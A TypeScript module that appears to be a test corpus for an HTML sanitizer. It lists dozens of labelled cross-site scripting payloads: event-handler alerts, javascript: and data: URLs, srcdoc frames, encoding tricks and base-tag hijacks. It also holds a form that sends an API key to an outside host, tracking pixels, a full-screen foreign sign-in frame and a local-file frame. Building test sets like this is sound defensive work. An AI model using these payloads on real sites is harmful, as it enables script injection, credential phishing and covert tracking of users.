import { payloads } from './payload.ts'

/** Elements that change the page as a whole, or what it loads. */
export const PAGE = payloads({
  'another page after a moment': '<meta http-equiv=refresh content="0;url=https://other.example/">',
  'a script after a moment': '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
  'a page in its address after a moment':
    '<META HTTP-EQUIV="Refresh" CONTENT="0;URL=data:text/html,<script>alert(1)</script>">',
  'a cookie': '<meta http-equiv="Set-Cookie" content="session=other">',
  'a policy of its own': '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  'another encoding': '<meta charset="utf-7">+ADw-img src=missing onerror=alert(1)+AD4-',
  'a base for addresses': '<base href="https://other.example/"><a href="/report">x</a>',
  'a base that is a script': '<base href="javascript:/alert(1)//"><a href="#">x</a>',
  'a base target': '<base target="_top"><a href="https://marlowe.example/">x</a>',
  'a sheet from elsewhere': '<link rel=stylesheet href="https://count.example/s.css" onerror="alert(\'sheet\')">',
  'an icon and a list of the application':
    '<link rel=icon href="https://count.example/i.ico"><link rel=manifest href="https://count.example/m.json">',
  'names to be looked up':
    '<link rel=dns-prefetch href="//count.example"><link rel=preconnect href="https://count.example">',
  'pages to be loaded ahead':
    '<link rel=prefetch href="https://count.example/p"><link rel=prerender href="https://count.example/r">',
  'modules to be loaded ahead':
    '<link rel=modulepreload href="https://count.example/m.js" onload="alert(\'ahead\')" onerror="alert(\'ahead\')">',
  'markup to be brought in': '<link rel=import href="https://count.example/i.html" onerror="alert(\'import\')">',
  'a link by reference': '<link rel=next href="javascript:alert(\'next\')" onclick="alert(\'next link\')">',
  'an object': '<object data="data:text/html,<script>alert(1)</script>" onerror="alert(\'object\')"></object>',
  'an object with a type':
    '<object type="text/x-scriptlet" data="https://count.example/x.wsc"><param name=src value="javascript:alert(1)"></object>',
  'an object that holds HTML': '<object><img src=missing onerror="alert(\'within\')"></object>',
  'an embedded thing': '<embed src="javascript:alert(1)" onload="alert(\'embed\')">',
  'an applet':
    '<applet code="Report.class" archive="https://count.example/r.jar" onclick="alert(\'applet\')">x</applet>',
  'a whole page in a page':
    '<!doctype html><html><head><title>Sign in</title></head><body onclick="alert(1)"><p onclick="alert(\'page\')">x',
})

/** Forms: elements that request something, send it somewhere or run when they are used. */
export const FORMS = payloads({
  'a form that asks for the key':
    '<form action="https://other.example/take"><label>API key <input type=password name=key></label><button>Save key</button></form>',
  'a form that is sent': '<form onsubmit="alert(\'sent\')"><input type=submit></form>',
  'a form that leads to a script':
    '<form action="javascript:alert(1)" onformdata="alert(\'data\')"><button>Next</button></form>',
  'a button that leads to a script':
    '<form><button formaction="javascript:alert(1)" onclick="alert(\'button\')">Next</button></form>',
  'a picture for a button':
    '<form><input type=image src=missing formaction="javascript:alert(1)" onerror="alert(\'image button\')"></form>',
  'a form that is emptied': '<form onreset="alert(\'emptied\')"><button type=reset>Clear</button></form>',
  'a field that takes the focus': '<input autofocus onfocus="alert(\'field\')">',
  'a field that changes': '<input value=1 oninput="alert(\'input\')" onchange="alert(\'change\')">',
  'a field that is wrong': '<input required oninvalid="alert(\'invalid\')">',
  'a field that searches': '<input type=search onsearch="alert(\'search\')">',
  'a field that is hidden': '<input type=hidden accesskey=x onclick="alert(\'hidden\')">',
  'a field that is hidden and watched':
    '<input type=hidden style="content-visibility:auto" oncontentvisibilityautostatechange="alert(\'seen\')">',
  'a select':
    '<select onchange="alert(\'choice\')" autofocus onfocus="alert(\'choice\')"><option>EUR<option>USD</select>',
  'a text field': '<textarea autofocus onselect="alert(\'textarea\')">x</textarea>',
  'an output': '<output onclick="alert(\'output\')">4.2</output>',
  'a label that clicks':
    '<label for=go onclick="alert(\'label\')">x</label><button id=go onclick="alert(\'by label\')">x</button>',
  'a fieldset and its legend':
    '<fieldset onfocusin="alert(\'fieldset\')"><legend onclick="alert(\'legend\')">x</legend></fieldset>',
  'a datalist': '<input list=l onkeydown="alert(\'list\')"><datalist id=l><option value=x></datalist>',
  'a meter and a progress bar':
    '<meter value=.5 onclick="alert(\'meter\')"></meter><progress onclick="alert(\'progress\')"></progress>',
  'the keygen element': '<keygen name=k autofocus onfocus="alert(\'keygen\')">',
  'the isindex element': '<isindex prompt=x type=image src=missing onerror="alert(\'isindex\')">',
  'a button that commands':
    '<button commandfor=d command=show-modal onclick="alert(\'command\')">x</button><dialog id=d oncommand="alert(1)">x</dialog>',
})

/** Pictures, sound and video: elements that load something or run when loading fails. */
export const MEDIA = payloads({
  'a picture from elsewhere': '<img src="https://count.example/open.gif?story=1" width=1 height=1>',
  'a picture without encryption': '<img src="http://count.example/open.gif"><img src="//count.example/open.gif">',
  'a picture for every screen':
    '<img srcset="https://count.example/1.png 1x, https://count.example/2.png 2x" onerror="alert(\'set\')">',
  'a picture loaded late': '<img loading=lazy src="https://count.example/late.png" onload="alert(\'late\')">',
  'a picture in its address':
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="alert(\'data\')" onerror="alert(\'data\')">',
  'an SVG as a picture':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\" onload=\"alert('drawing')\">",
  'a picture of a set':
    '<picture><source srcset="https://count.example/p.webp" onerror="alert(1)"><img src=missing onerror="alert(\'set of\')"></picture>',
  'a video': '<video src=missing onloadstart="alert(\'film\')" onerror="alert(\'film\')"></video>',
  'a video whose source fails': '<video><source src=missing onerror="alert(\'source\')"></video>',
  'a video with a poster': '<video poster="https://count.example/poster.png" oncanplay="alert(\'poster\')"></video>',
  'a video that plays by itself':
    '<video autoplay muted src="https://count.example/v.mp4" onplay="alert(\'plays\')"></video>',
  'a video with subtitles':
    '<video><track default src="https://count.example/t.vtt" oncuechange="alert(\'words\')"></video>',
  'an audio element': '<audio src=missing onerror="alert(\'sound\')" onratechange="alert(\'rate\')"></audio>',
  'an audio element whose length changes':
    '<audio controls ondurationchange="alert(\'length\')" onvolumechange="alert(1)"></audio>',
  'background sound of old browsers': '<bgsound src="javascript:alert(1)" onload="alert(\'bgsound\')">',
  'a canvas': '<canvas oncontextlost="alert(\'canvas\')"></canvas>',
})

/** Frames: pages within the page. */
export const FRAMES = payloads({
  'a frame that loads': '<iframe onload="alert(\'frame\')"></iframe>',
  'a frame with a script for its address': '<iframe src="javascript:parent.alert(1)"></iframe>',
  'a frame with a page in its address': '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  'a frame with its own page': '<iframe srcdoc="<script>parent.alert(\'srcdoc\')</script>"></iframe>',
  'a frame with its own page in references':
    '<iframe srcdoc="&lt;img src=missing onerror=parent.alert(1)&gt;"></iframe>',
  'a frame with references twice':
    '<iframe srcdoc="&amp;lt;script&amp;gt;parent.alert(1)&amp;lt;/script&amp;gt;" onload="alert(\'twice\')"></iframe>',
  'a frame within a frame':
    '<iframe srcdoc="<iframe srcdoc=\'<script>parent.parent.alert(1)</script>\'></iframe>"></iframe>',
  'a frame that may do everything':
    '<iframe sandbox="allow-scripts allow-same-origin" allow="camera; microphone" srcdoc="x" onload="alert(\'may\')"></iframe>',
  'a frame from elsewhere': '<iframe src="https://other.example/sign-in" style="position:fixed;inset:0"></iframe>',
  'a frame with a file': '<iframe src="file:///etc/hostname"></iframe><iframe src="app://key/key.html"></iframe>',
  'a frame of a frameset':
    '<frame src="javascript:alert(1)" onload="alert(1)"><noframes><p onclick="alert(1)">x</p></noframes>',
  'fencedframe and portal':
    '<fencedframe mode=default onclick="alert(\'fenced\')"></fencedframe><portal src="https://other.example/" onload="alert(1)"></portal>',
  'a web view': '<webview src="https://other.example/" nodeintegration onclick="alert(\'web view\')"></webview>',
  'a frame between tables': '<table><iframe onload="alert(\'table\')"></iframe><tr><td>1</td></tr></table>',
})
